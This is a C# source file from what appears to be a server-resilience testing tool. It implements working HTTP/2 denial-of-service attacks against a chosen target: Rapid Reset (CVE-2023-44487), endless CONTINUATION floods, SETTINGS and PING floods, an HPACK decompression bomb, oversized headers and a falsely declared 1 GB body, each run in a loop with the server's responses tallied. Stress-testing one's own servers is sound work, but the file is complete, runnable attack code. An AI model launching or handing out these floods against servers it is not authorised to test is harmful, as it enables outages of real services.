namespace Roost.Abuse;

/// <summary>Attacks over HTTP/2 on TLS (ALPN h2).</summary>
public static class Http2Attacks
{
    public static readonly Attack RapidReset = new("rapid-reset", "HTTP/2 HEADERS + RST_STREAM(CANCEL) in a loop, 100 pairs a write (CVE-2023-44487)", 4,
        (target, settings, tally, ct) => SessionLoopAsync(target, settings, tally, ct, read: true, closeAfter: false, async (session, token) =>
        {
            var block = H2.RequestBlock(target.Authority);
            var streamId = 1;
            while (!session.Ended && !token.IsCancellationRequested && streamId < int.MaxValue - 400)
            {
                var batch = new List<byte>();
                for (var i = 0; i < 100; i++, streamId += 2)
                {
                    batch.AddRange(H2.Frame(H2.Headers, H2.EndStream | H2.EndHeaders, streamId, block));
                    batch.AddRange(H2.RstStreamFrame(streamId, 0x8));
                }

                if (!await session.WriteAsync(batch.ToArray(), token).ConfigureAwait(false))
                {
                    break;
                }

                tally.Add(100);
            }
        }));

    public static readonly Attack ContinuationSmall = new("continuation-small", "HTTP/2 HEADERS without END_HEADERS, then CONTINUATION frames of one 9-byte header each, never ending", 4,
        (target, settings, tally, ct) => ContinuationAsync(target, settings, tally, ct, empty: false));

    public static readonly Attack ContinuationEmpty = new("continuation-empty", "HTTP/2 HEADERS without END_HEADERS, then empty CONTINUATION frames, never ending", 4,
        (target, settings, tally, ct) => ContinuationAsync(target, settings, tally, ct, empty: true));

    public static readonly Attack SettingsFlood = new("settings-flood", "HTTP/2 SETTINGS frames, 1,000 a write, the ACKs never read (CVE-2019-9515)", 4,
        (target, settings, tally, ct) => FloodAsync(target, settings, tally, ct,
            H2.Frame(H2.Settings, 0, 0, [0x00, 0x04, 0x00, 0x00, 0xff, 0xff]))); // SETTINGS_INITIAL_WINDOW_SIZE = 65535

    public static readonly Attack PingFlood = new("ping-flood", "HTTP/2 PING frames, 1,000 a write, the ACKs never read (CVE-2019-9512)", 4,
        (target, settings, tally, ct) => FloodAsync(target, settings, tally, ct,
            H2.Frame(H2.Ping, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])));

    public static readonly Attack HpackBomb = new("hpack-bomb", "HTTP/2 requests that add one 4 KB header to the HPACK table and reference it 4,000 times (16 MB decoded)", 4,
        (target, settings, tally, ct) => SessionLoopAsync(target, settings, tally, ct, read: true, closeAfter: false, async (session, token) =>
        {
            var streamId = 1;
            while (!session.Ended && !token.IsCancellationRequested)
            {
                var block = new List<byte>(H2.RequestBlock(target.Authority));
                // The first request adds the entry; later ones only reference it (the table keeps it).
                if (streamId == 1)
                {
                    H2.Literal(block, "x-bomb", new string('a', 4000), incrementalIndexing: true);
                }

                for (var i = 0; i < 4000; i++)
                {
                    H2.Indexed(block, 62);
                }

                if (!await session.WriteAsync(H2.Frame(H2.Headers, H2.EndStream | H2.EndHeaders, streamId, block.ToArray()), token).ConfigureAwait(false))
                {
                    break;
                }

                tally.Add(1);
                streamId += 2;
                await Task.WhenAny(Task.Delay(100, token)).ConfigureAwait(false);
            }
        }));

    public static readonly Attack OversizedHeaders = new("oversized-headers-h2", "HTTP/2 requests with 64 KB of headers (32 × 2 KB) in HEADERS + CONTINUATION", 4,
        (target, settings, tally, ct) => SessionLoopAsync(target, settings, tally, ct, read: true, closeAfter: true, async (session, token) =>
        {
            var block = new List<byte>(H2.RequestBlock(target.Authority));
            for (var i = 0; i < 32; i++)
            {
                H2.Literal(block, FormattableString.Invariant($"x-big-{i}"), new string('a', 2048), incrementalIndexing: false);
            }

            var bytes = block.ToArray();
            var frames = new List<byte>();
            for (var offset = 0; offset < bytes.Length; offset += 16384)
            {
                var last = offset + 16384 >= bytes.Length;
                var part = bytes.AsSpan(offset, Math.Min(16384, bytes.Length - offset));
                frames.AddRange(offset == 0
                    ? H2.Frame(H2.Headers, (byte)(H2.EndStream | (last ? H2.EndHeaders : 0)), 1, part)
                    : H2.Frame(H2.Continuation, last ? H2.EndHeaders : (byte)0, 1, part));
            }

            await session.WriteAsync(frames.ToArray(), token).ConfigureAwait(false);
            tally.Add(1);
            await WaitForAnswerAsync(session, 1, token).ConfigureAwait(false);
        }));

    public static readonly Attack LargeBody = new("large-body-h2", "HTTP/2 POST declaring content-length 1 GB, DATA up to the flow-control window", 2,
        (target, settings, tally, ct) => SessionLoopAsync(target, settings, tally, ct, read: true, closeAfter: true, async (session, token) =>
        {
            var block = H2.RequestBlock(target.Authority, "POST", "/", ("content-length", "1000000000"));
            var frames = new List<byte>(H2.Frame(H2.Headers, H2.EndHeaders, 1, block));
            var chunk = new byte[16384];
            for (var i = 0; i < 3; i++)
            {
                frames.AddRange(H2.Frame(H2.Data, 0, 1, chunk)); // 48 KB: inside the default 64 KB window
            }

            await session.WriteAsync(frames.ToArray(), token).ConfigureAwait(false);
            tally.Add(1);
            await WaitForAnswerAsync(session, 1, token).ConfigureAwait(false);
            await Task.WhenAny(Task.Delay(300, token)).ConfigureAwait(false); // a RST_STREAM after the response
        }));

    private static async Task<H2Session> OpenAsync(Target target, bool read, Tally tally, CancellationToken token)
    {
        var session = await H2Session.OpenAsync(target, read, token).ConfigureAwait(false);
        tally.Connected();
        return session;
    }

    private static Task ContinuationAsync(Target target, AttackSettings settings, Tally tally, CancellationToken ct, bool empty) =>
        SessionLoopAsync(target, settings, tally, ct, read: true, closeAfter: false, async (session, token) =>
        {
            if (!await session.WriteAsync(H2.Frame(H2.Headers, H2.EndStream, 1, H2.RequestBlock(target.Authority)), token).ConfigureAwait(false))
            {
                return;
            }

            var piece = new List<byte>();
            H2.Literal(piece, "x-c", "v", incrementalIndexing: false);
            var frame = H2.Frame(H2.Continuation, 0, 1, empty ? [] : piece.ToArray());
            var batch = Enumerable.Repeat(frame, 100).SelectMany(f => f).ToArray();
            while (!session.Ended && !token.IsCancellationRequested)
            {
                if (!await session.WriteAsync(batch, token).ConfigureAwait(false))
                {
                    break;
                }

                tally.Add(100);
            }
        });

    // Not reading: the server's ACKs pile up in its output, which is the attack.
    private static Task FloodAsync(Target target, AttackSettings settings, Tally tally, CancellationToken ct, byte[] frame) =>
        SessionLoopAsync(target, settings, tally, ct, read: false, closeAfter: false, async (session, token) =>
        {
            var batch = Enumerable.Repeat(frame, 1000).SelectMany(f => f).ToArray();
            var writeStarted = DateTime.UtcNow;
            try
            {
                while (!token.IsCancellationRequested)
                {
                    writeStarted = DateTime.UtcNow;
                    if (!await session.WriteAsync(batch, token).ConfigureAwait(false))
                    {
                        break;
                    }

                    tally.Add(1000);
                }
            }
            catch (OperationCanceledException) when (token.IsCancellationRequested)
            {
                // The attack's time is up. A write pending for over a second: the server stopped reading (backpressure).
                if (DateTime.UtcNow - writeStarted > TimeSpan.FromSeconds(1))
                {
                    tally.Answer("stopped reading (backpressure)");
                }
            }
        });

    /// <summary>
    /// The attack loop for one h2 connection at a time: open, run <paramref name="body"/> until it returns or the
    /// attack's time is up, then tally what the server answered (also for the connection cut by the deadline).
    /// </summary>
    private static Task SessionLoopAsync(Target target, AttackSettings settings, Tally tally, CancellationToken ct, bool read, bool closeAfter,
        Func<H2Session, CancellationToken, Task> body) =>
        Attack.LoopAsync(settings, tally, ct, async token =>
        {
            await using var session = await OpenAsync(target, read, tally, token).ConfigureAwait(false);
            try
            {
                await body(session, token).ConfigureAwait(false);
            }
            catch (OperationCanceledException) when (token.IsCancellationRequested)
            {
                // Time is up: what the server did so far is still counted below.
            }

            await EndAsync(session, tally, token, closeAfter).ConfigureAwait(false);
        });

    private static async Task WaitForAnswerAsync(H2Session session, int streamId, CancellationToken token)
    {
        var until = DateTime.UtcNow + TimeSpan.FromSeconds(5);
        while (!session.Statuses.ContainsKey(streamId) && !session.Ended && session.RstReceived == 0 && DateTime.UtcNow < until && !token.IsCancellationRequested)
        {
            await Task.WhenAny(Task.Delay(20, token)).ConfigureAwait(false);
        }
    }

    /// <summary>Waits briefly for the server's end, then tallies statuses, RST_STREAMs and how the connection ended.</summary>
    private static async Task EndAsync(H2Session session, Tally tally, CancellationToken token, bool closeAfter = false)
    {
        if (!token.IsCancellationRequested && !closeAfter)
        {
            await session.WaitForEndAsync(TimeSpan.FromSeconds(2)).ConfigureAwait(false);
        }
        else if (token.IsCancellationRequested)
        {
            await session.WaitForEndAsync(TimeSpan.FromMilliseconds(300)).ConfigureAwait(false);
        }

        var statuses = session.Statuses.Values.GroupBy(s => s).OrderByDescending(g => g.Count()).Select(g => g.Key);
        var answer = string.Join("/", statuses);
        if (session.RstReceived > 0)
        {
            answer += (answer.Length > 0 ? " + " : "") + "RST_STREAM";
        }

        var end = closeAfter && !session.Ended ? "open" : session.Describe();
        tally.Answer(answer.Length > 0 ? $"{answer}, then {end}" : end);
        if (session.Ending is not null || session.GoAwayCode is not null)
        {
            tally.ServerEnded(session.Wire.Age);
        }
    }
}
